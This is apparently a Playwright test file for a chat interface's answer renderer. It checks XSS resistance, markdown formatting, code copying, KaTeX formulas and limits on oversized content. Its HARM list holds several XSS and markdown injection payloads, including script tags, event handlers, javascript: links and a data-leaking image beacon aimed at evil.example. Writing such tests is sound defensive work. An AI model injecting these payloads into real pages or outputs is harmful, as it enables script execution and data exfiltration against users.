import type { Page } from '@playwright/test';
import { answers, beginChat, sendMessage, waitForAnswers } from './kit/chat-steps.ts';
import type { Harness } from './kit/harness.ts';
import { expect, test } from './kit/kit.ts';

const HARM: readonly string[] = [
  '"><script>window.hit=1</script>',
  '<script src=https://evil.example/x.js></script>',
  '<img src=x onerror="window.hit=1">',
  '<img src="https://evil.example/t.png?what=was-said">',
  '![said](https://evil.example/t.png)',
  '![said][late]',
  '<svg onload="window.hit=1"><script>window.hit=1</script><a xlink:href="javascript:window.hit=1">s</a></svg>',
  '<math><mtext><img src=x onerror=window.hit=1></mtext></math>',
  '<iframe src="https://evil.example" srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<form action="https://evil.example"><button>Sign in</button><input name=password></form>',
  '<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/a.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example/">',
  '<b onclick="window.hit=1" style="position:fixed;inset:0" id="root" class="x">bold</b>',
  '<details open ontoggle="window.hit=1"><summary>s</summary>d</details>',
  '<video src=https://evil.example/v autoplay></video><audio src=https://evil.example/a autoplay></audio>',
  '<a href="javascript:window.hit=1">a</a> <a href="&#106;avascript:window.hit=1">a</a>',
  '[a](javascript:window.hit=1) [b](JaVaScRiPt:window.hit=1) [c](java&#9;script:window.hit=1)',
  '[d](data:text/html,<script>window.hit=1</script>) [e](vbscript:x) [f](file:///etc/passwd)',
  '[g](//evil.example) [h](/settings) [i](https://user:word@evil.example) <javascript:window.hit=1>',
  String.raw`$\href{javascript:window.hit=1}{x}$ $\htmlStyle{position:fixed}{x}$ $\includegraphics{https://evil.example/x.png}$`,
  String.raw`$$\def\a{\a\a}\a$$`,
  '| <img src=x onerror=window.hit=1> |\n|---|\n| <script>window.hit=1</script> |',
  '```html\n<script>window.hit=1</script>\n```',
  '```"><img src=x onerror=window.hit=1>\ncode\n```',
  '[^x]\n\n[^x]: <img src=x onerror=window.hit=1> [n](javascript:window.hit=1)',
  '[late]: javascript:window.hit=1',
];

test('an answer cannot run, load or navigate anything in the page', async ({ page, harness }) => {
  await showAnswer(harness, page, HARM.join('\n\n'));
  await expect(answers(page).getByRole('link', { name: 'image: said' })).toBeVisible();
  await expect(answers(page).getByRole('list', { name: 'Notes' })).toBeVisible();
  const found = await page.evaluate(() => {
    const answer = [...document.querySelectorAll('article')].at(-1);
    const all = [...(answer?.querySelectorAll<HTMLElement>('*') ?? [])];
    return {
      hit: Reflect.get(globalThis, 'hit') ?? null,
      elements: all.filter((element) =>
        element.matches('script,img,iframe,object,embed,form,style,link,meta,base,video,audio'),
      ).length,
      handlers: all.filter((element) =>
        element.getAttributeNames().some((name) => name.startsWith('on')),
      ).length,
      roots: document.querySelectorAll('#root').length,
      out: all
        .flatMap((element) => (element instanceof HTMLAnchorElement ? [element] : []))
        .filter(({ origin, target }) => origin !== location.origin || target === '_blank')
        .map(({ origin, rel, target }) => `${origin} ${rel} ${target}`),
    };
  });
  const { out, ...rest } = found;
  expect(rest).toEqual({ hit: null, elements: 0, handlers: 0, roots: 1 });
  expect([...new Set(out)]).toEqual(['https://evil.example noopener noreferrer _blank']);
});

const ANSWER = String.raw`# A head

Words in **bold** with a price of $5 and $6, a note[^1], and \(x^2\).

| Name | Value |
|------|------:|
| a    | 1     |

- [x] done
- [ ] to do

~~~ts
const one = 1;

const two = "<b>";
~~~

\[
\sqrt{2}
\]

[https://good.example](https://other.example/path) and H<sub>2</sub>O

[^1]: What the note says.
`;

test('an answer is formatted: tables, tasks, code to copy, formulas, notes, and links that say where they lead', async ({
  page,
  harness,
  provoked,
}) => {
  await showAnswer(harness, page, ANSWER);
  const answer = answers(page);
  await expect(answer.getByRole('heading', { name: 'A head' })).toBeVisible();
  await expect(answer.getByRole('cell', { name: '1', exact: true })).toBeVisible();
  await expect(answer.getByRole('checkbox', { name: 'Done' })).toBeChecked();
  await expect(answer.locator('.katex')).toHaveCount(2);
  await expect(answer).toContainText('$5 and $6');
  await expect(answer.locator('sub')).toHaveText('2');
  await expect(answer.getByRole('link', { name: 'https://good.example' })).toBeVisible();
  await expect(answer).toContainText('(leads to https://other.example/path)');
  await answer.getByRole('button', { name: 'Note 1', exact: true }).click();
  await expect(answer.getByRole('list', { name: 'Notes' }).getByRole('listitem')).toBeFocused();

  await expect(answer.locator('.hljs-keyword').first()).toHaveText('const');
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await answer.getByRole('button', { name: 'Copy the code' }).click();
  await expect(answer.getByRole('button', { name: 'Copied' })).toBeVisible();
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  expect(copied).toBe('const one = 1;\n\nconst two = "<b>";');

  // It simulates a page whose Gatehouse was replaced by a newer version.
  provoked(/Failed to load resource/u);
  await page.route(/(?:colours|typeset)-.*\.js$/u, (route) => route.abort());
  await page.reload();
  await expect(answer.getByLabel('Code, ts')).toContainText('const two');
  await expect(answer.locator('.katex')).toHaveCount(0);
});

test('a formula with styles of its own keeps to the policy of the page', async ({
  page,
  harness,
}) => {
  await showAnswer(harness, page, String.raw`$\pmb{x}$ and $\fcolorbox{red}{blue}{y}$`);
  await expect(answers(page).locator('.katex')).toHaveCount(2);
  await page.getByRole('button', { name: 'New conversation', exact: true }).click();
  await expect(answers(page)).toHaveCount(0);
  await expect(page.getByRole('textbox', { name: 'Message', exact: true })).toBeVisible();
});

test('content too slow to format is shown as plain text, and a long table in parts', async ({
  page,
  harness,
}) => {
  const row = `|${' c |'.repeat(20)}\n`;
  const table = `${row}|${'---|'.repeat(20)}\n${row.repeat(300)}`;
  const deep = [
    '>'.repeat(4000),
    '['.repeat(3000),
    '<div>'.repeat(700),
    '`'.repeat(3000),
    'x'.repeat(9000),
  ];
  await showAnswer(harness, page, [table, ...deep, 'the end of it'].join('\n\n'));
  const answer = answers(page);
  await expect(answer).toContainText('the end of it');
  await expect(answer).toContainText('too deeply nested');
  await expect(answer.getByText('300 rows, 200 shown.')).toBeVisible();
  await expect(answer.getByRole('row')).toHaveCount(201);
  await answer.getByRole('button', { name: /Show \d+ more/u }).click();
  await expect(answer.getByRole('row')).toHaveCount(301);
});

async function showAnswer(harness: Harness, page: Page, text: string): Promise<void> {
  const id = await beginChat(harness, page);
  await sendMessage(page, text);
  await waitForAnswers(harness, id, 1);
}
